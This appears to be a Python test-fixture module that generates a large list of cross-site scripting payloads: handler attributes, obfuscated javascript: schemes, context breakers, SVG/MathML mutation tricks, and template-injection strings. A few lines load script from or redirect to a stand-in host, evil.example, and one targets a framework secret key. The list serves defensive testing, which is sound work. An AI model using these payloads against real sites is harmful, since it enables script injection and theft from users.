"""Texts that try to run script wherever they are shown; used by tests of pages, previews and the admin."""

CODE = "alert(1)"
HANDLERS = (  # noqa: SIM905 - a list of 45 lines reads worse
    "onload onerror onclick onfocus onmouseover onmouseenter onpointerenter onpointerrawupdate "
    "onanimationstart onanimationend ontransitionend ontoggle onbeforetoggle "
    "oncontentvisibilityautostatechange onbegin onend onrepeat onscroll onscrollend onwheel oninput "
    "onchange onsubmit onreset oninvalid onselect onpaste oncopy oncut ondrag ondrop onkeydown "
    "onkeyup onhashchange onpageshow onresize onstart onfinish onloadstart oncanplay onplay "
    "onplaying "
).split()
TAGS = [
    "img",
    "svg",
    "body",
    "details",
    "video",
    "audio",
    "input",
    "iframe",
    "marquee",
    "a",
    "object",
    "embed",
]
SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}",
    "\x01javascript:{0}",
    "vbscript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/{0}",
    "blob:{0}",
    "javascript://%0a{0}",
)
LINKS = (
    '<a href="{0}">x</a>',
    "<a href='{0}'>x</a>",
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>',
)
BREAKERS = (
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</script><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    '" autofocus onfocus="{0}',
    "' autofocus onfocus='{0}",
    "` onmouseover=`{0}",
    '"/onerror="{0}',
    "</template><script>{0}</script>",
    "</noscript><img src=x onerror={0}>",
    "</option></select><img src=x onerror={0}>",
    "</iframe><img src=x onerror={0}>",
    "</p></div></main><script>{0}</script>",
)
SCRIPTS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script/x>{0}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{0}</script>",
    "<<script>{0}//<</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{0}",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "<svg><script>{0}</script></svg>",
    "<svg><script href=data:,{0} /></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{0}><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#x /></svg>",
    "<svg><foreignObject><img src=x onerror={0}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={0}&gt;'>",
    "<math><maction actiontype=statusline xlink:href=javascript:{0}>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<style>@import 'javascript:{0}';</style>",
    "<p style=background:url(javascript:{0})>x</p>",
    "<p style=width:expression({0})>x</p>",
    "<link rel=stylesheet href=javascript:{0}>",
    "<link rel=import href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=//evil.example/>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<isindex type=image src=x onerror={0}>",
    "<table background=javascript:{0}><tr><td>x</td></tr></table>",
    "<input type=image src=x onerror={0} autofocus>",
    "<button formaction=javascript:{0}>x</button>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<template><script>{0}</script></template>",
    "<xmp><p title='</xmp><img src=x onerror={0}>'>",
    "<!--[if gte IE 4]><script>{0}</script><![endif]-->",
    "<?xml-stylesheet href='javascript:{0}'?>",
    "<img src=x onerror={0}//",
    "<img/src=x/onerror={0}>",
    "<img src=`x` onerror={0}>",
    "<img src='x' onerror\n=\n{0}>",
    "<img \x0csrc=x onerror={0}>",
    "<x onclick={0} tabindex=1 autofocus onfocus={0}>",
    "<custom-element is=x onconnected={0}>",
    "<p contenteditable onblur={0} autofocus>x</p>",
    "<details open ontoggle={0}><summary>x</summary></details>",
    "<a href=x ping=//evil.example/>x</a>",
    "<a target=_blank href=//evil.example/ rel=opener>x</a>",
)
TEMPLATES = (
    "{{% load static %}}{0}",
    "{{{{ {0} }}}}",
    "{{{{ settings.SECRET_KEY }}}}",
    "${{{0}}}",
    "#{{{0}}}",
    "<%= {0} %>",
    '[x]"><script>{0}</script>',
    '[cdc-naloxone"onclick={0}]',
    '{{988"onclick={0}}}',
    "{{988:text}}<img src=x onerror={0}>",
    "{{911}}</a><script>{0}</script>",
    "<b>[cdc-naloxone]</b><script>{0}</script>",
    "one | two<script>{0}</script>",
    "|<img src=x onerror={0}>",
    "__proto__[x]={0}",
    "constructor.constructor('{0}')()",
)


def _all():
    yield from (
        f"<{tag} src=x href=x {handler}={CODE}>" for tag, handler in zip(TAGS * 4, HANDLERS, strict=False)
    )
    yield from (f"<{tag} autofocus tabindex=1 {HANDLERS[i]}={CODE}>x</{tag}>" for i, tag in enumerate(TAGS))
    yield from (link.format(scheme.format(CODE)) for link in LINKS for scheme in SCHEMES)
    yield from (frame.format(CODE) for frames in (BREAKERS, SCRIPTS, TEMPLATES) for frame in frames)
    yield from (scheme.format(CODE) for scheme in SCHEMES)


PAYLOADS = list(dict.fromkeys(_all()))
